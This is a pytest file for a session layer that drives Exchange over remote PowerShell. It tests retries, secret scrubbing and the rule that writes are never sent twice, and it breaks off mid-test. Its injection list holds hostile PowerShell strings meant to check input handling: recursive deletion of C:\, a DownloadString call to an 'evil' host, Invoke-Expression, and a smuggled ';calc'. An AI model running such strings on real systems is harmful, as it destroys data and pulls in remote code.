# -*- coding: utf-8 -*-
# Copyright: xphone.connect contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""The session layer: one pool kept open, bound parameters only, faults handled where it is safe, secrets scrubbed."""

from __future__ import annotations

import types
import xml.etree.ElementTree as ET

import pytest
import requests
import urllib3

from fake_exchange import AuthenticationError, FakeError, FakeExchange, FakeWarning

from pypsrp import powershell
from pypsrp.complex_objects import RunspacePoolState
from pypsrp.exceptions import WinRMTransportError, WSManFaultError

from ansible_collections.xphone.connect.plugins.module_utils import connection, errors, session as session_mod
from ansible_collections.xphone.connect.plugins.module_utils.session import (
    DELAY_BASE,
    DELAY_THRESHOLD,
    RECYCLE_AFTER,
    RETRIES,
    PypsrpTransport,
    Session,
    error_details,
    to_plain,
)

PASSWORD = "Sup3r-Secret-Pw!"
# Every kind of quote PowerShell knows, subexpressions, backticks, newlines and statement separators.
INJECTIONS = [
    "x'; Remove-Item C:\\ -Recurse; '",
    'x"; Stop-Service MSExchangeTransport; "',
    "x\u2018; calc; \u2019",
    "x\u201a; calc; \u201b",
    "x\u201c$(Get-Process)\u201d",
    "`$env:USERNAME`n",
    "line1\nline2; Invoke-Expression 'evil'",
    "$(New-Object Net.WebClient).DownloadString('http://evil')",
    "fax -Confirm:$true -WhatIf",
    "@{a=1}; & { Remove-RemoteDomain Default }",
]
SHELLS_QUOTA_TEXT = ("The WS-Management service cannot process the request. This user is allowed a maximum number of 5 "
                     "concurrent shells, which has been exceeded. Close existing shells or raise the quota for this user.")
RUNSPACE_LIMIT_TEXT = ("[FailureCategory=AuthZ-AuthorizationException] Fail to create a runspace because you have exceeded "
                       "the maximum number of connections allowed : 18 for the policy party : MaxConcurrency. Please close "
                       "existing runspace and try again.")
COMMANDS_QUOTA_TEXT = ("The WS-Management service cannot process the request. The maximum number of concurrent commands per "
                       "shell has been exceeded. Retry the request later or raise the Maximum Commands per Shell quota.")


# -- faults as the real clients raise them --------------------------------------------------------------------
def fault(code, text):
    return WSManFaultError(code, "ex01.alleo.intern", text, None, None, None)


def shells_quota():
    return fault(2150859173, SHELLS_QUOTA_TEXT)


def runspace_limit():
    return fault(0x80540FA0, RUNSPACE_LIMIT_TEXT)


def commands_quota():
    return fault(2150859241, COMMANDS_QUOTA_TEXT)


def shell_lost():
    return fault(errors.SHELL_NOT_FOUND_CODE, "The request for the Windows Remote Shell with ShellId 7 failed because the "
                                              "shell was not found on the server.")


def server_error():
    return WinRMTransportError("http", 500, "internal trouble")


def dropped():
    return requests.exceptions.ConnectionError(urllib3.exceptions.ProtocolError(
        "Connection aborted.", ConnectionResetError(104, "Connection reset by peer")))


def read_timeout():
    return requests.exceptions.ReadTimeout(urllib3.exceptions.ReadTimeoutError(None, "/PowerShell", "Read timed out."))


def refused():
    return requests.exceptions.ConnectionError(urllib3.exceptions.MaxRetryError(
        None, "/PowerShell", urllib3.exceptions.NewConnectionError(None, "[Errno 111] Connection refused")))


TRANSIENT = [server_error, dropped, read_timeout, shells_quota, runspace_limit, commands_quota]
TRANSIENT_IDS = ["http500", "reset", "read-timeout", "shells-quota", "runspace-limit", "commands-quota"]


# -- fakes ----------------------------------------------------------------------------------------------------
class FakeClock(object):
    """time.monotonic and time.sleep in one: sleeping advances the clock, and so does an open attempt."""

    def __init__(self):
        self.now = 1000.0
        self.sleeps = []

    def __call__(self):
        return self.now

    def sleep(self, seconds):
        self.sleeps.append(seconds)
        self.now += seconds


class Exchange(FakeExchange):
    """FakeExchange whose open attempts each take ``open_seconds`` on the clock."""

    def __init__(self, clock=None, open_seconds=0):
        super(Exchange, self).__init__()
        self.clock = clock
        self.open_seconds = open_seconds

    def open_pool(self, settings):
        if self.clock is not None:
            self.clock.now += self.open_seconds
        return super(Exchange, self).open_pool(settings)


def make_settings(**extra):
    params = dict((k, None) for k in connection.CONNECTION_OPTIONS)
    params.update(connection_server="ex01.alleo.intern", username="ALLEO\\admin", password=PASSWORD)
    params.update(extra)
    return connection.resolve_settings(params)[0]


@pytest.fixture
def clock():
    return FakeClock()


@pytest.fixture
def fx(clock):
    return Exchange(clock)


@pytest.fixture
def new_session(fx, clock):
    made = []

    def make(settings=None, **kwargs):
        sess = Session(settings or make_settings(), transport=fx, sleep=clock.sleep, clock=clock, **kwargs)
        made.append(sess)
        return sess
    yield make
    for sess in made:
        sess.close()


@pytest.fixture
def session(new_session):
    return new_session()


def fax_domain(fx):
    fx.remote_domains.append(dict(Name="fax", Identity="fax", DomainName="fax.alleo.intern", ContentType="MimeHtmlText"))
    return fx.remote_domains[-1]


# == what goes on the wire: cmdlets and bound parameters only ==================================================
def test_cmdlets_and_parameters_only(session, fx):
    session.invoke("Set-RemoteDomain", [("Identity", "Default"), ("ContentType", "MimeText")])
    ps = fx.recorded[-1]
    assert ps.calls == [("add_cmdlet", "Set-RemoteDomain"), ("add_parameter", "Identity", "Default"),
                        ("add_parameter", "ContentType", "MimeText"), ("add_parameter", "Confirm", False)]
    assert ps.closed
    assert fx.remote_domains[0]["ContentType"] == "MimeText"


@pytest.mark.parametrize("value", INJECTIONS)
def test_injection_strings_arrive_as_literal_parameter_values(value, session, fx):
    fax_domain(fx)
    session.invoke("Set-RemoteDomain", [("Identity", "fax"), ("Name", value)])
    ps = fx.call("Set-RemoteDomain")[0]
    assert [c for c in ps.calls if c[0] == "add_cmdlet"] == [("add_cmdlet", "Set-RemoteDomain")]
    assert [c[1] for c in ps.calls if c[0] == "add_parameter"] == ["Identity", "Name", "Confirm"]
    assert ("add_parameter", "Name", value) in ps.calls
    assert fx.remote_domains[-1]["Name"] == value
    assert fx.cmdlets() == ["Set-RemoteDomain"]


def test_domain_controller_added_to_exchange_cmdlets_confirm_to_writes(new_session, fx):
    sess = new_session(make_settings(domain_controller="dc01.alleo.intern"))
    sess.invoke("Get-RemoteDomain")
    sess.invoke("Set-RemoteDomain", {"Identity": "Default", "NDREnabled": True})
    sess.invoke("Get-ExchangeServer")
    get, set_, servers = fx.recorded
    assert get.params == [("DomainController", "dc01.alleo.intern")]
    assert set_.params == [("Identity", "Default"), ("NDREnabled", True), ("DomainController", "dc01.alleo.intern"),
                           ("Confirm", False)]
    # Get-ExchangeServer has no -DomainController parameter.
    assert servers.params == []


def test_no_domain_controller_when_not_given_and_reads_get_no_confirm(session, fx):
    session.invoke("Get-RemoteDomain")
    session.invoke("Remove-RemoteDomain", {"Identity": "Default"}, not_found_ok=True)
    assert fx.recorded[0].params == []
    assert fx.recorded[1].params == [("Identity", "Default"), ("Confirm", False)]


def test_given_domain_controller_and_confirm_are_not_doubled(new_session, fx):
    sess = new_session(make_settings(domain_controller="dc01.alleo.intern"))
    sess.invoke("Set-RemoteDomain", [("Identity", "Default"), ("domaincontroller", "dc02.alleo.intern"), ("Confirm", True)])
    assert fx.recorded[0].params == [("Identity", "Default"), ("domaincontroller", "dc02.alleo.intern"), ("Confirm", True)]


def test_windows_endpoint_gets_no_confirm(fx, clock):
    settings = make_settings()
    settings.confirm_writes = False
    with Session(settings, transport=fx, sleep=clock.sleep, clock=clock) as sess:
        sess.invoke("Set-RemoteDomain", {"Identity": "Default"})
    assert fx.recorded[0].params == [("Identity", "Default")]


@pytest.mark.parametrize("value", ["dc01\x00.alleo.intern", "dc01 .alleo.intern", "dc01.alleo.intern -Confirm:$false",
                                   "dc01\n.alleo.intern", "dc01;calc", "'dc01'"])
def test_bad_domain_controller_is_refused_before_anything_is_sent(value):
    with pytest.raises(errors.InvalidInput) as err:
        make_settings(domain_controller=value)
    assert err.value.option == "domain_controller"
    assert err.value.message.startswith("domain_controller: ")


def test_good_domain_controller_is_accepted_as_given():
    assert make_settings(domain_controller="DC01.alleo.intern").domain_controller == "DC01.alleo.intern"
    assert make_settings(domain_controller="dc01.alleo.intern.").domain_controller == "dc01.alleo.intern"


# == the pool's lifecycle ====================================================================================
def test_one_pool_per_session_closed_at_exit(fx, clock):
    with Session(make_settings(), transport=fx, sleep=clock.sleep, clock=clock) as sess:
        sess.invoke("Get-RemoteDomain")
        sess.invoke("Get-SendConnector")
        assert sess.is_open and not fx.pools[0].closed
    assert len(fx.pools) == 1 and fx.pools[0].closed and fx.pools[0].broken is False
    assert all(ps.closed for ps in fx.recorded)
    assert not sess.is_open
    assert sess.stats["opened"] == 1 and sess.stats["closed"] == 1 and sess.stats["commands"] == 2


def test_nothing_is_opened_before_the_first_command(fx, clock):
    with Session(make_settings(), transport=fx, sleep=clock.sleep, clock=clock) as sess:
        assert not sess.is_open
    assert fx.open_attempts == 0 and fx.pools == []


def test_pool_closed_when_the_step_fails(fx, clock):
    with pytest.raises(errors.CmdletFailed):
        with Session(make_settings(), transport=fx, sleep=clock.sleep, clock=clock) as sess:
            fx.faults.append(lambda ps: ps.streams.error.append(FakeError("boom")))
            sess.invoke("Get-RemoteDomain")
    assert fx.pools[0].closed


def test_closed_session_opens_again_on_next_command(session, fx):
    session.invoke("Get-RemoteDomain")
    session.close()
    session.close()
    assert len(fx.pools) == 1 and fx.pools[0].closed and session.stats["closed"] == 1
    session.invoke("Get-RemoteDomain")
    assert len(fx.pools) == 2 and not fx.pools[1].closed


# == cmdlet error records: final, sent once, never slept on =================================================
def test_non_terminating_error_is_raised_although_had_errors_is_false(session, fx, clock):
    fx.faults.append(lambda ps: ps.streams.error.append(FakeError("Exchange said no")))
    with pytest.raises(errors.CmdletFailed) as err:
        session.invoke("Set-RemoteDomain", {"Identity": "Default"})
    assert err.value.message == "Set-RemoteDomain failed: Exchange said no"
    assert fx.recorded[0].had_errors is False
    assert clock.sleeps == [] and len(fx.call("Set-RemoteDomain")) == 1


def test_not_found_is_empty_when_allowed(session, fx):
    assert session.invoke("Set-RemoteDomain", {"Identity": "nope"}, not_found_ok=True) == []
    with pytest.raises(errors.NotFound) as err:
        session.invoke("Set-RemoteDomain", {"Identity": "nope"})
    assert "'nope' couldn't be found" in err.value.message
    # not_found_ok only covers not found
    fx.faults.append(lambda ps: ps.streams.error.append(FakeError("other trouble")))
    with pytest.raises(errors.CmdletFailed):
        session.invoke("Set-RemoteDomain", {"Identity": "Default"}, not_found_ok=True)


def test_missing_rbac_role_is_final(session, fx, clock):
    with pytest.raises(errors.AuthorizationFailed) as err:
        session.invoke("New-Frobnicator", {"Name": "x"})
    assert "RBAC" in err.value.message and "New-Frobnicator" in err.value.message
    assert clock.sleeps == [] and fx.cmdlets() == ["New-Frobnicator"]


@pytest.mark.parametrize("text", [
    "Cannot bind parameter 'PowerShellMaxConcurrency' to the target. Exception setting \"PowerShellMaxConcurrency\": "
    "\"Cannot convert value \"lots\" to type Unlimited`1[UInt32].\"",
    "The value of property 'EwsMaxConcurrency' is out of range: the quota must be between 0 and 2147483647.",
    "The throttling policy 'NoThrottlingPolicy' already exists.",
    SHELLS_QUOTA_TEXT,
    RUNSPACE_LIMIT_TEXT,
])
def test_throttling_policy_error_records_are_sent_once_and_never_slept_on(session, fx, clock, text):
    fx.faults.append(lambda ps: ps.streams.error.append(FakeError(text, "System.Management.Automation.RuntimeException")))
    with pytest.raises(errors.CmdletFailed) as err:
        session.invoke("New-ThrottlingPolicy", [("Name", "XPhoneThrottling"), ("PowerShellMaxConcurrency", "lots")])
    assert not isinstance(err.value, errors.Transient)
    assert err.value.message == "New-ThrottlingPolicy failed: %s" % text
    assert len(fx.call("New-ThrottlingPolicy")) == 1 and clock.sleeps == []
    # an error record does not spoil the pool
    assert len(fx.pools) == 1 and not fx.pools[0].closed
    session.invoke("Get-RemoteDomain")
    assert len(fx.pools) == 1


def test_warnings_are_collected_once(session, fx):
    fx.warn_on_set = "The command completed successfully but no settings of 'Default' have been modified."
    session.invoke("Set-RemoteDomain", {"Identity": "Default", "NDREnabled": True})
    session.invoke("Set-RemoteDomain", {"Identity": "Default", "NDREnabled": True})
    assert session.warnings == [fx.warn_on_set]


# == secrets =================================================================================================
def test_cmdlet_error_text_is_scrubbed(session, fx):
    fx.faults.append(lambda ps: ps.streams.error.append(FakeError("bad value %s" % PASSWORD)))
    with pytest.raises(errors.XPhoneError) as err:
        session.invoke("Get-RemoteDomain")
    assert PASSWORD not in str(err.value)
    assert str(err.value) == "Get-RemoteDomain failed: bad value ********"


def test_added_secret_is_scrubbed(session, fx):
    session.add_secret("SecureStringValue-42")
    session.add_secret("")
    session.add_secret(None)
    fx.faults.append(lambda ps: ps.streams.error.append(FakeError("could not convert SecureStringValue-42")))
    with pytest.raises(errors.XPhoneError) as err:
        session.invoke("Get-RemoteDomain")
    assert "SecureStringValue-42" not in str(err.value) and "could not convert ********" in str(err.value)


def test_transport_error_is_classified_and_scrubbed(session, fx):
    fx.begin_faults.extend([WinRMTransportError("http", 500, "500 body with %s and %s" % (
        PASSWORD, "Sup3r-Secret-Pw%21"))] * (RETRIES + 1))
    with pytest.raises(errors.Transient) as err:
        session.invoke("Get-RemoteDomain")
    assert PASSWORD not in err.value.message and "Sup3r-Secret-Pw%21" not in err.value.message
    assert "500 body with ******** and ********" in err.value.message


def test_warning_records_scrubbed(session, fx):
    fx.faults.append(lambda ps: ps.streams.warning.append(FakeWarning("careful with %s" % PASSWORD)))
    session.invoke("Get-RemoteDomain")
    assert session.warnings == ["careful with ********"]


# == retries of transient faults: one backoff, bounded at its edge ============================================
@pytest.mark.parametrize("make", TRANSIENT, ids=TRANSIENT_IDS)
def test_a_read_is_retried_after_a_lost_reply(session, fx, clock, make):
    fx.reply_faults.append(make())
    assert session.invoke("Get-RemoteDomain")[0]["Name"] == "Default"
    assert len(clock.sleeps) == 1
    assert len(fx.call("Get-RemoteDomain")) == 2       # a read may run again


@pytest.mark.parametrize("make", TRANSIENT, ids=TRANSIENT_IDS)
def test_an_open_is_retried(new_session, fx, clock, make):
    # The endpoint answered once (the first pool), so a fault while opening the next pool is a passing one.
    sess = new_session(recycle_after=1)
    sess.invoke("Get-RemoteDomain")
    fx.open_faults.append(make())
    assert sess.invoke("Get-RemoteDomain")[0]["Name"] == "Default"
    assert fx.open_attempts == 3 and len(fx.pools) == 2 and len(clock.sleeps) == 1


@pytest.mark.parametrize("make", [shells_quota, runspace_limit], ids=["shells-quota", "runspace-limit"])
def test_throttling_at_the_first_open_backs_off(new_session, fx, clock, make):
    sess = new_session()
    fx.open_faults.extend([make(), make()])
    assert sess.invoke("Get-RemoteDomain")
    assert len(clock.sleeps) == 2 and fx.open_attempts == 3 and len(fx.pools) == 1
    assert clock.sleeps[0] < DELAY_BASE and clock.sleeps[1] < 2 * DELAY_BASE


def test_backoff_succeeds_after_exactly_retries_faults(session, fx, clock):
    fx.reply_faults.extend([server_error() for _index in range(RETRIES)])
    assert session.invoke("Get-RemoteDomain")[0]["Name"] == "Default"
    assert len(clock.sleeps) == RETRIES and len(fx.call("Get-RemoteDomain")) == RETRIES + 1
    assert session.stats["retries"] == RETRIES


def test_backoff_gives_up_after_exactly_retries_plus_one_attempts(session, fx, clock):
    fx.reply_faults.extend([server_error() for _index in range(RETRIES + 2)])
    with pytest.raises(errors.Transient) as err:
        session.invoke("Get-RemoteDomain")
    assert len(fx.call("Get-RemoteDomain")) == RETRIES + 1
    assert len(fx.reply_faults) == 1, "one attempt too many or too few"
    assert len(clock.sleeps) == RETRIES
    assert "tried %d times" % (RETRIES + 1) in err.value.message
    assert "PowerShellMaxConcurrency" not in err.value.message     # not throttling: no quota advice


def test_each_wait_is_full_jitter_below_its_cap(session, fx, clock):
    fx.open_faults.extend([shells_quota() for _index in range(RETRIES + 1)])
    with pytest.raises(errors.Throttled):
        session.invoke("Get-RemoteDomain")
    assert len(clock.sleeps) == RETRIES
    for index, delay in enumerate(clock.sleeps):
        assert 0 <= delay < min(DELAY_THRESHOLD, DELAY_BASE * 2 ** index)
    assert sum(clock.sleeps) < 5 + 10 + 20 + 30


@pytest.mark.parametrize("retries", [0, 1, 2])
def test_retries_setting_is_the_bound(new_session, fx, clock, retries):
    sess = new_session(retries=retries)
    fx.reply_faults.extend([server_error() for _index in range(retries + 1)])
    with pytest.raises(errors.Transient) as err:
        sess.invoke("Get-RemoteDomain")
    assert len(clock.sleeps) == retries and len(fx.call("Get-RemoteDomain")) == retries + 1
    assert "tried %d times" % (retries + 1) in err.value.message


def test_giving_up_says_truthfully_how_often_and_how_long(clock):
    fx = Exchange(clock, open_seconds=2)      # every open attempt takes 2 s
    fx.open_faults.extend([shells_quota() for _index in range(RETRIES + 1)])
    sess = Session(make_settings(), transport=fx, sleep=clock.sleep, clock=clock)
    started = clock.now
    with pytest.raises(errors.Throttled) as err:
        sess.invoke("Get-RemoteDomain")
    elapsed = clock.now - started
    assert elapsed == 2 * (RETRIES + 1) + sum(clock.sleeps)
    assert "Get-RemoteDomain: tried %d times over %.0f seconds, still failing: " % (RETRIES + 1, elapsed) in err.value.message
    assert "PowerShellMaxConcurrency" in err.value.message and "close leaked sessions" in err.value.message
    assert sess.stats["waited"] == sum(clock.sleeps) and sess.stats["retries"] == RETRIES
    assert fx.open_attempts == RETRIES + 1 and fx.pools == []


def test_a_throttled_command_keeps_its_pool(session, fx, clock):
    fx.begin_faults.append(commands_quota())
    session.invoke("Get-RemoteDomain")
    assert len(fx.pools) == 1 and not fx.pools[0].closed and len(clock.sleeps) == 1


# == writes: never sent twice ================================================================================
@pytest.mark.parametrize("make", [commands_quota, shells_quota], ids=["commands-quota", "shells-quota"])
def test_throttled_command_creation_of_a_write_is_retried_and_runs_once(session, fx, clock, make):
    fax = fax_domain(fx)
    fx.begin_faults.append(make())
    session.invoke("Set-RemoteDomain", {"Identity": "fax", "ContentType": "MimeText"})
    assert len(fx.call("Set-RemoteDomain")) == 1 and fax["ContentType"] == "MimeText"
    assert len(clock.sleeps) == 1 and len(fx.pools) == 1


def test_shell_lost_at_command_creation_of_a_write_reopens_and_runs_once(session, fx, clock):
    fax = fax_domain(fx)
    session.invoke("Get-RemoteDomain")
    fx.begin_faults.append(shell_lost())
    session.invoke("Set-RemoteDomain", {"Identity": "fax", "ContentType": "MimeText"})
    assert len(fx.call("Set-RemoteDomain")) == 1 and fax["ContentType"] == "MimeText"
    assert len(fx.pools) == 2 and fx.pools[0].closed and fx.pools[0].broken is True
    assert fx.call("Set-RemoteDomain")[0].pool is fx.pools[1]


@pytest.mark.parametrize("make", TRANSIENT + [shell_lost], ids=TRANSIENT_IDS + ["shell-lost"])
def test_a_write_whose_reply_is_lost_is_never_sent_again(session, fx, clock, make):
    fax = fax_domain(fx)
    fx.reply_faults.append(make())
    with pytest.raises(errors.ReplyLost) as err:
        session.invoke("Set-RemoteDomain", {"Identity": "fax", "ContentType": "MimeText"})
    assert len(fx.call("Set-RemoteDomain")) == 1, "the write was sent twice"
    assert fax["ContentType"] == "MimeText"            # it did take effect; only its reply was lost
    assert clock.sleeps == []
    assert err.value.cmdlet == "Set-RemoteDomain" and "not sent again" in err.value.message
    assert not isinstance(err.value, errors.Transient)
    # the pool it was sent on is dropped; the next command gets a fresh one
    assert fx.pools[0].closed and fx.pools[0].broken is True and not session.is_open
    session.invoke("Get-RemoteDomain")
    assert len(fx.pools) == 2


def test_same_lost_reply_read_is_retried_write_is_not(session, fx, clock):
    fx.reply_faults.append(read_timeout())
    session.invoke("Get-RemoteDomain")
    fx.reply_faults.append(read_timeout())
    with pytest.raises(errors.ReplyLost):
        session.invoke("Remove-RemoteDomain", {"Identity": "Default"})
    assert len(fx.call("Get-RemoteDomain")) == 2 and len(fx.call("Remove-RemoteDomain")) == 1
    assert len(clock.sleeps) == 1


def test_a_write_whose_command_creation_timed_out_is_not_retried(session, fx, clock):
    # The request may have reached the server before the timeout: the write is not sent again.
    fx.begin_faults.append(read_timeout())
    with pytest.raises(errors.ReplyLost):
        session.invoke("New-RemoteDomain", {"Name": "fax", "DomainName": "fax.alleo.intern"})
    assert clock.sleeps == [] and fx.begin_faults == []


# == a lost shell ============================================================================================
def test_shell_lost_at_command_creation_reopens_and_redoes_the_read(session, fx, clock):
    session.invoke("Get-RemoteDomain")
    fx.begin_faults.append(shell_lost())
    assert session.invoke("Get-SendConnector") == []
    assert len(fx.pools) == 2 and fx.pools[0].closed and fx.pools[0].broken is True and not fx.pools[1].closed
    assert len(fx.call("Get-SendConnector")) == 1 and fx.call("Get-SendConnector")[0].pool is fx.pools[1]
    assert len(clock.sleeps) <= 1


def test_shell_lost_every_time_gives_up(session, fx, clock):
    fx.begin_faults.extend([shell_lost() for _index in range(RETRIES + 1)])
    with pytest.raises(errors.ShellLost) as err:
        session.invoke("Get-RemoteDomain")
    assert "tried %d times" % (RETRIES + 1) in err.value.message
    assert len(fx.pools) == RETRIES + 1 and all(pool.closed for pool in fx.pools)


# == the first open: a server that never answered ============================================================
def test_first_open_that_times_out_is_unreachable_at_once(session, fx, clock):
    fx.open_faults.extend([read_timeout(), read_timeout()])
    with pytest.raises(errors.Unreachable) as err:
        session.invoke("Get-RemoteDomain")
    assert "did not answer within connect_timeout (30 s)" in err.value.message and err.value.unreachable
    assert clock.sleeps == [] and fx.open_attempts == 1
    with pytest.raises(errors.Unreachable):
        session.invoke("Get-RemoteDomain")
    assert fx.open_attempts == 1


def test_first_open_answered_with_a_server_error_is_retried(session, fx, clock):
    fx.open_faults.append(server_error())
    assert session.invoke("Get-RemoteDomain")[0]["Name"] == "Default"
    assert fx.open_attempts == 2 and len(clock.sleeps) == 1


def test_first_open_dropped_is_retried(session, fx, clock):
    fx.open_faults.append(dropped())
    assert session.invoke("Get-RemoteDomain")[0]["Name"] == "Default"
    assert fx.open_attempts == 2 and len(clock.sleeps) == 1


def test_refused_connection_is_unreachable_and_remembered(session, fx, clock):
    fx.open_faults.extend([refused(), refused()])
    with pytest.raises(errors.Unreachable) as first:
        session.invoke("Get-RemoteDomain")
    assert first.value.message.startswith("Cannot connect to https://ex01.alleo.intern/PowerShell")
    with pytest.raises(errors.Unreachable) as second:
        session.invoke("Get-RemoteDomain")
    assert second.value.message == first.value.message
    assert fx.open_attempts == 1 and clock.sleeps == []


def test_tls_failure_names_ca_cert(session, fx):
    fx.open_faults.append(requests.exceptions.SSLError(urllib3.exceptions.MaxRetryError(
        None, "/PowerShell", urllib3.exceptions.SSLError("[SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed"))))
    with pytest.raises(errors.Unreachable) as err:
        session.invoke("Get-RemoteDomain")
    assert "CERTIFICATE_VERIFY_FAILED" in err.value.message and "ca_cert" in err.value.message


def test_wrong_endpoint_is_a_configuration_error(session, fx, clock):
    fx.open_faults.append(WinRMTransportError("http", 404, "Not Found"))
    with pytest.raises(errors.ConfigurationError) as err:
        session.invoke("Get-RemoteDomain")
    assert "https://ex01.alleo.intern/PowerShell answered 404" in err.value.message
    assert clock.sleeps == [] and fx.open_attempts == 1


# == a rejected logon: one attempt, remembered ===============================================================
def host_settings(**host):
    params = dict((k, None) for k in connection.CONNECTION_OPTIONS)
    host = dict(dict(connection_server="ex01.alleo.intern", username="ALLEO\\svc-xphone", password=PASSWORD), **host)
    return connection.resolve_settings(params, {}, host)[0]


def test_rejected_logon_is_final_remembered_and_scrubbed(new_session, fx, clock):
    sess = new_session(host_settings())
    fx.open_faults.extend([AuthenticationError("Failed to authenticate ALLEO\\svc-xphone with password %s" % PASSWORD)] * 3)
    with pytest.raises(errors.AuthenticationFailed) as err:
        sess.invoke("Get-RemoteDomain")
    message = err.value.message
    assert "ALLEO\\svc-xphone" in message
    assert "the host's connection variables ansible_user/ansible_password" in message
    assert "https://ex01.alleo.intern/PowerShell rejected the logon" in message
    assert PASSWORD not in message and "********" in message
    assert clock.sleeps == [] and fx.open_attempts == 1
    with pytest.raises(errors.AuthenticationFailed) as again:
        sess.invoke("Set-RemoteDomain", {"Identity": "Default"})
    assert again.value.message == message
    assert fx.open_attempts == 1 and len(fx.open_faults) == 2, "a rejected password must not be tried again"
    assert sess.terminal_error is not None and not sess.is_open and fx.recorded == []


@pytest.mark.parametrize("layer, words, not_words", [
    ("option", "the module option username/password", "connection variables"),
    ("environment", "XPHONE_EXCHANGE_USERNAME/XPHONE_EXCHANGE_PASSWORD", "module option"),
    ("connection", "the host's connection variables ansible_user/ansible_password", "XPHONE_EXCHANGE_USERNAME"),
    ("inventory", "the host's inventory variables ansible_user/ansible_password", "connection variables"),
])
def test_rejected_logon_names_where_the_account_came_from(fx, clock, layer, words, not_words):
    credentials = dict(username="ALLEO\\svc-xphone", password=PASSWORD)
    params = dict((k, None) for k in connection.CONNECTION_OPTIONS)
    params["connection_server"] = "ex01.alleo.intern"
    layers = dict(option={}, environment={}, connection={}, inventory={})
    if layer == "environment":
        layers["environment"] = {"XPHONE_EXCHANGE_USERNAME": credentials["username"],
                                 "XPHONE_EXCHANGE_PASSWORD": credentials["password"]}
    elif layer == "option":
        params.update(credentials)
    else:
        layers[layer] = credentials
    settings = connection.resolve_settings(params, layers["environment"], layers["connection"], layers["inventory"])[0]
    fx.open_faults.append(AuthenticationError("Failed to authenticate"))
    with pytest.raises(errors.AuthenticationFailed) as err:
        Session(settings, transport=fx, sleep=clock.sleep, clock=clock).invoke("Get-RemoteDomain")
    assert words in err.value.message and not_words not in err.value.message
    assert "ALLEO\\svc-xphone" in err.value.message


def test_rejected_kerberos_ticket_does_not_blame_the_module_options(fx, clock):
    settings = make_settings(username=None, password=None, auth="kerberos")
    fx.open_faults.append(AuthenticationError("Kerberos: no credentials were supplied"))
    with pytest.raises(errors.AuthenticationFailed) as err:
        Session(settings, transport=fx, sleep=clock.sleep, clock=clock).invoke("Get-RemoteDomain")
    assert "the current Kerberos ticket" in err.value.message
    assert "module option" not in err.value.message


def test_logon_rejected_mid_session_is_final(session, fx, clock):
    session.invoke("Get-RemoteDomain")
    fx.reply_faults.append(WinRMTransportError("http", 401, "Unauthorized"))
    with pytest.raises(errors.AuthenticationFailed):
        session.invoke("Get-RemoteDomain")
    with pytest.raises(errors.AuthenticationFailed):
        session.invoke("Get-RemoteDomain")
    assert clock.sleeps == [] and fx.open_attempts == 1 and len(fx.call("Get-RemoteDomain")) == 2


# == missing credentials: a configuration error, before any connection =======================================
WHERE_TO_SET = ("ansible_user", "ansible_password", "AWX Machine credential", "XPHONE_EXCHANGE_USERNAME",
                "XPHONE_EXCHANGE_PASSWORD")


def test_missing_user_is_a_configuration_error_naming_where_to_set_it():
    with pytest.raises(errors.ConfigurationError) as err:
        make_settings(username=None, auth="ntlm")
    assert err.value.message.startswith("No user name for ntlm authentication to ex01.alleo.intern")
    for words in WHERE_TO_SET:
        assert words in err.value.message, words
    assert not err.value.unreachable


def test_missing_password_is_a_configuration_error_naming_the_user_and_where_it_came_from():
    params = dict((k, None) for k in connection.CONNECTION_OPTIONS)
    with pytest.raises(errors.ConfigurationError) as err:
        connection.resolve_settings(params, {"XPHONE_EXCHANGE_SERVER": "ex01", "XPHONE_EXCHANGE_USERNAME": "ALLEO\\svc"})
    message = err.value.message
    assert message.startswith("No password for ALLEO\\svc (negotiate authentication to ex01, user name from "
                              "XPHONE_EXCHANGE_USERNAME/XPHONE_EXCHANGE_PASSWORD")
    for words in WHERE_TO_SET:
        assert words in message, words


def test_kerberos_needs_no_password():
    settings = make_settings(username=None, password=None, auth="kerberos")
    assert settings.username is None and settings.secrets == []


# == recycling before the commands-per-shell quota ============================================================
def test_pool_recycled_at_exactly_recycle_after_commands(new_session, fx):
    sess = new_session(recycle_after=3)
    for _index in range(3):
        sess.invoke("Get-RemoteDomain")
    assert len(fx.pools) == 1 and not fx.pools[0].closed
    sess.invoke("Get-RemoteDomain")
    assert len(fx.pools) == 2 and fx.pools[0].closed and fx.pools[0].broken is False
    for _index in range(3):
        sess.invoke("Get-RemoteDomain")
    sess.close()
    assert len(fx.pools) == 3 and all(pool.closed for pool in fx.pools)
    assert [len([ps for ps in fx.recorded if ps.pool is pool]) for pool in fx.pools] == [3, 3, 1]


def test_default_recycle_is_at_recycle_after(session, fx):
    assert RECYCLE_AFTER < 1000     # below WinRM's MaxConcurrentCommandsPerShell
    for _index in range(RECYCLE_AFTER):
        session.invoke("Get-SendConnector")
    assert len(fx.pools) == 1
    session.invoke("Get-SendConnector")
    assert len(fx.pools) == 2 and fx.pools[0].closed


# == PypsrpTransport: the real wire's pool handling =========================================================
class FakeHTTPSession(object):
    def __init__(self):
        self.closed = False

    def close(self):
        self.closed = True


class FakeWSMan(object):
    """pypsrp.wsman.WSMan as RunspacePool and PypsrpTransport use it."""

    instances = []
    create_errors = ()

    def __init__(self, **kwargs):
        self.kwargs = kwargs
        self.max_payload_size = 150000
        self.transport = types.SimpleNamespace(read_timeout=kwargs["read_timeout"], reconnection_backoff=2.0,
                                               connection_timeout=kwargs["connection_timeout"],
                                               session=FakeHTTPSession(), encryption=object())
        self.requests = []
        FakeWSMan.instances.append(self)

    def create(self, resource_uri, shell, option_set=None):
        self.requests.append("Create")
        for error in self.create_errors:
            raise error
        return ET.Element("response")

    def delete(self, resource_uri, selector_set=None):
        self.requests.append("Delete")

    def close(self):
        self.requests.append("close")


class FakeRunspacePool(object):
    open_errors = ()

    def __init__(self, connection_, configuration_name=None):
        self.connection = connection_
        self.configuration_name = configuration_name
        self.read_timeout_at_open = None
        self.closed = False

    def open(self):
        self.read_timeout_at_open = self.connection.transport.read_timeout
        for error in self.open_errors:
            raise error

    def close(self):
        self.closed = True


@pytest.fixture
def fake_pypsrp(monkeypatch):
    FakeWSMan.instances = []
    monkeypatch.setattr(session_mod, "WSMan", FakeWSMan)
    monkeypatch.setattr(session_mod, "RunspacePool", FakeRunspacePool)
    monkeypatch.setattr(FakeRunspacePool, "open_errors", ())
    return FakeWSMan.instances


def test_pypsrp_open_waits_connect_timeout_then_read_timeout(fake_pypsrp):
    settings = make_settings(connect_timeout=7, operation_timeout=20, ca_cert="/etc/pki/alleo-ca.pem")
    pool = PypsrpTransport().open_pool(settings)
    wsman = fake_pypsrp[0]
